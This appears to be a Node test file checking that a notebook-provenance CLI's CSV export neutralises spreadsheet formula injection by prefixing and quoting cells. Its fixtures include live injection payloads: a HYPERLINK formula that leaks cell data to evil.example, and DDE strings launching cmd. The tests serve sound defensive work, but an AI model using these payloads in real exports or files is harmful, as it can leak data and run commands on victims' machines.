// Spreadsheet formula injection: values recorded by a real kernel (and trial names) that a
// spreadsheet would run as formulas reach `values --csv` and `export --format csv` neutralised as
// OWASP recommends: prefixed with ' and quoted. Plain negative numbers stay numbers.
import assert from 'node:assert/strict';
import { csvParse } from 'd3-dsv';
import { after, before, describe, test } from 'node:test';
import { csvCellText, formatCsv } from '../../src/shared/csv';
import { ensureBuilt, nbprov, removeWorkspace, tempWorkspace, writeNotebook } from '../cli/helpers';

/** Variable → the value the notebook gives it. */
const HOSTILE: Record<string, string> = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  dde: "+cmd|' /C calc'!A0",
  minus_formula: '-2+3+cmd|\' /C calc\'!A0',
  at_sum: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  tab_start: '\t=1+1',
  cr_start: '\r=1+1',
  space_start: '   =1+1',
  fullwidth: '\uff1d1+1',
  semicolon: 'a;=1+1',
  plain: 'just text',
};
const NUMBERS: Record<string, number> = { neg: -0.25, neg_int: -3, neg_sci: -1e-7, pos: 0.5 };
const TRIAL_NAME = '=HYPERLINK("http://evil.example","trial")';
/** Formula starts a spreadsheet honours, after any leading spaces. */
const FORMULA_START = /^[\s\u3000]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;
const PLAIN_NUMBER = /^-?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/;

let ws: string;
const stats = { cells: 0, prefixed: 0, formulasLeft: 0 };

before(() => {
  ensureBuilt();
  ws = tempWorkspace('csv');
  const assignments = [...Object.entries(HOSTILE).map(([n, v]) => `${n} = ${JSON.stringify(v)}`), ...Object.entries(NUMBERS).map(([n, v]) => `${n} = ${v}`)];
  const variables = Object.fromEntries([...Object.keys(HOSTILE), ...Object.keys(NUMBERS)].map((n) => [n, 'metric']));
  writeNotebook(ws, 'csv.ipynb', [assignments.join('\n')], { nbprov: { variables } });
  const run = nbprov(['run', 'csv.ipynb', '--trial', TRIAL_NAME], ws, 180_000);
  assert.equal(run.code, 0, run.stderr);
});

after(() => {
  console.log(`csv injection: ${stats.cells} cells checked, ${stats.prefixed} neutralised, formulas left: ${stats.formulasLeft}`);
  removeWorkspace(ws);
});

/** Every cell of the CSV: no formula start unless a plain number; returns the parsed rows. */
function assertNoFormula(label: string, text: string): Array<Record<string, string>> {
  const rows = csvParse(text);
  for (const row of rows) {
    for (const [column, cell] of Object.entries(row)) {
      stats.cells++;
      if (cell?.startsWith("'")) stats.prefixed++;
      const formula = cell !== undefined && FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell);
      if (formula) stats.formulasLeft++;
      assert.ok(!formula, `${label}: column ${column} starts a formula: ${JSON.stringify(cell)}`);
    }
  }
  return rows;
}

/** The cell shown for a value: the original behind the ' prefix (a carriage return is shown escaped). */
function unprefixed(cell: string): string {
  return (cell.startsWith("'") ? cell.slice(1) : cell).replace(/\\x0d/g, '\r');
}

describe('CSV output neutralises formulas', () => {
  test('values --csv: each hostile value prefixed, kept otherwise; negative numbers stay numbers', () => {
    for (const [name, value] of Object.entries(HOSTILE)) {
      const result = nbprov(['values', name, '--csv'], ws);
      assert.equal(result.code, 0, result.stderr);
      const [row] = assertNoFormula(`values ${name} --csv`, result.stdout);
      assert.equal(unprefixed(row.value), value, `${name}: the text behind the prefix is the value`);
      assert.ok(row.trial.startsWith("'="), 'the trial name is neutralised too');
    }
    for (const [name, value] of Object.entries(NUMBERS)) {
      const [row] = assertNoFormula(`values ${name} --csv`, nbprov(['values', name, '--csv'], ws).stdout);
      assert.equal(Number(row.value), value, `${name} stays a plain number: ${row.value}`);
      assert.ok(!row.value.startsWith("'"));
    }
  });

  test('export --format csv: every cell of every row', () => {
    const result = nbprov(['export', '--format', 'csv'], ws);
    assert.equal(result.code, 0, result.stderr);
    const rows = assertNoFormula('export csv', result.stdout);
    assert.equal(rows.length, Object.keys(HOSTILE).length + Object.keys(NUMBERS).length);
    assert.equal(unprefixed(rows.find((r) => r.variable === 'dde')!.value), HOSTILE.dde);
  });

  test('export --out writes the same neutralised CSV to a file', async () => {
    const { readFileSync } = await import('node:fs');
    const result = nbprov(['export', '--format', 'csv', '--out', 'all.csv'], ws);
    assert.equal(result.code, 0, result.stderr);
    assertNoFormula('export --out', readFileSync(`${ws}/all.csv`, 'utf8'));
  });

  test('a cell holding ; or a tab is quoted, so a spreadsheet splitting on them still sees one cell', () => {
    const line = nbprov(['values', 'semicolon', '--csv'], ws).stdout.split('\n')[1];
    assert.ok(line.includes('"a;=1+1"'), line);
  });
});

describe('the CSV writer (shared by the CLI and the across-trials panel)', () => {
  test('OWASP triggers are prefixed and quoted; numbers and plain text are left alone', () => {
    for (const cell of ['=1+1', '+1+1', '-1+1', '@A1', '\t=1', ' =1', '\uff20A1', '-', '-inf', '--1']) {
      const text = csvCellText(cell);
      assert.ok(text.startsWith(`"'`), `${JSON.stringify(cell)} → ${text}`);
    }
    for (const cell of ['-1', '-0.25', '-1e-7', '-.5', '3', 'abc', '']) assert.equal(csvCellText(cell), cell);
    assert.equal(csvCellText('say "hi", then'), '"say ""hi"", then"');
    // Control characters are shown escaped in CSV as in the CLI's output: a carriage return no longer starts the cell.
    assert.equal(csvCellText('\r=1'), '\\x0d=1');
    assert.equal(csvCellText('\x1b[2J'), '\\x1b[2J');
    assert.equal(formatCsv([{ a: '=x', b: '-2' }], ['a', 'b']), 'a,b\n"\'=x",-2');
  });
});
